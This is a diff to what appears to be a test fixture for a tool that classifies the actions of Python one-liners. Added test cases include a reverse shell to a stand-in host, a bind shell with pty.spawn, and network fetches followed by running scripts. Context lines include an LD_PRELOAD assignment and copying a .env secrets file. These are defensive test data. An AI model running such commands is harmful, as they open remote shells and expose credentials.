@@ -72,5 +72,9 @@ breakpoint() => run python [inline]
 import runpy; runpy.run_path('x.py') => run python [inline] · read x.py
 os.environ['LD_PRELOAD'] = 'x' => run python [inline] · run export LD_PRELOAD=x [data] · run LD_PRELOAD=x [assignment]
 shutil.copyfileobj(open('.env'), open('out', 'w')) => run python [inline] · read .env · write out <file:/p/.env>
+import socket, subprocess as p; s = socket.socket(); s.connect(('h.example', 1)); p.call(['sh', '-i']) => run python [inline] · connect h.example · run sh -i <network:h.example>
+import socket, pty; s = socket.socket(); s.bind(('', 1)); s.listen(); c, _ = s.accept(); pty.spawn('sh') => run python [inline] · run sh <network:…>
+import requests, subprocess; requests.get('https://a.example'); subprocess.run(['sh', 'x.sh']) => run python [inline] · connect https://a.example · run sh x.sh · read x.sh
+import requests, subprocess; requests.get('https://a.example'); subprocess.run(['make']) => run python [inline] · connect https://a.example · run make [runner]
 """,
 )
